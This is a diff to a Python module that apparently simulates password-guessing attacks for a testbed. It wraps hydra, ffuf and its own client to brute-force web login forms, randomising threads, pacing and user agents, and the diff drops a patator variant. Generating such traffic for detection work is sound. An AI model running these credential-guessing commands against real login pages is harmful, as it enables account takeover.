@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Password guessing at a web form: hydra, ffuf, patator, or an own client over the login page of the sites' application.
+"""Password guessing at a web form: hydra, ffuf, or an own client over the login page of the sites' application.
 
 Varied per session: the tool, tries at once and their rate, one or several tries per connection, user agents, whether the form
 is fetched before each try, TLS as the client's style has it."""
@@ -18,12 +18,12 @@ def _form(user, password):
 
 def _hydra(me):
     tasks = me.rng.choice((1, 2, 4))
-    first = me.rng.choice(("", ":g="))  # with or without fetching the form for a cookie
+    first = me.rng.choice(("", "g=:"))  # with or without fetching the form for a cookie
     agent = clients.agent(me.rng).replace(":", "\\:")
 
     def guess(service, users, passwords):
         module = "https-post-form" if service.facts.get("tls") else "http-post-form"
-        form = f"/login:user=^USER^&password=^PASS^:F=failed{first}:H=User-Agent\\: {agent}"
+        form = f"/login:user=^USER^&password=^PASS^:{first}H=User-Agent\\: {agent}:F=failed"
         with me.talk(service):
             me.run(["hydra", "-I", "-q", "-t", tasks, "-L", words.write(me, "users", users), "-P",
                     words.write(me, "passwords", passwords), "-s", service.port, me.address(service, False), module, form], timeout=40)
@@ -31,26 +31,14 @@ def _hydra(me):
 
 
 def _ffuf(me):
-    tasks, rate, agent = me.rng.choice((1, 2, 4, 8)), me.rng.choice((2, 5, 10, 20)), clients.agent(me.rng)
+    tasks, pause, agent = me.rng.choice((1, 2, 4, 8)), me.rng.choice(("0.1", "0.1-0.6", "0.3-1.5", "1.0")), clients.agent(me.rng)
 
     def guess(service, users, passwords):
         with me.talk(service):
-            me.run(["ffuf", "-s", "-t", tasks, "-rate", rate, "-X", "POST", "-H", "Content-Type: application/x-www-form-urlencoded",
+            me.run(["ffuf", "-s", "-t", tasks, "-p", pause, "-X", "POST", "-H", "Content-Type: application/x-www-form-urlencoded",
                     "-H", f"User-Agent: {agent}", "-w", words.write(me, "users", users) + ":NAME", "-w",
                     words.write(me, "passwords", passwords) + ":WORD", "-d", "user=NAME&password=WORD", "-fr", "failed", "-u",
                     clients.url(me, service, "/login", named=False)], timeout=40)
-    return guess
-
-
-def _patator(me):
-    tasks, persistent = me.rng.choice((1, 2, 4)), me.rng.choice("01")
-
-    def guess(service, users, passwords):
-        with me.talk(service):
-            me.run(["patator", "http_fuzz", f"url={clients.url(me, service, '/login', named=False)}", "method=POST",
-                    "body=user=FILE0&password=FILE1", f"0={words.write(me, 'users', users)}",
-                    f"1={words.write(me, 'passwords', passwords)}", "-t", tasks, "--max-retries", "0", f"persistent={persistent}"],
-                   timeout=40)
     return guess
 
 
@@ -74,10 +62,10 @@ def _own(me):
     return guess
 
 
-@threat("guess_http_form", family="guessing", needs=("web",), tools=("hydra|ffuf|patator",), origin="either")
+@threat("guess_http_form", family="guessing", needs=("web",), tools=("hydra|ffuf",), origin="either")
 def guess_http_form(me):
     service = me.choose(me.rng.choice([kind for kind in ("web", "web", "webplain") if me.services(kind)]), app=True)
-    makers = [maker for name, maker in (("hydra", _hydra), ("ffuf", _ffuf), ("patator", _patator)) if installed(name)] + [_own, _own]
+    makers = [maker for name, maker in (("hydra", _hydra), ("ffuf", _ffuf)) if installed(name)] + [_own, _own]
     guess_in_rounds(me, me.rng.choice(makers)(me), service, me.rng.randrange(100, 350))
 
 
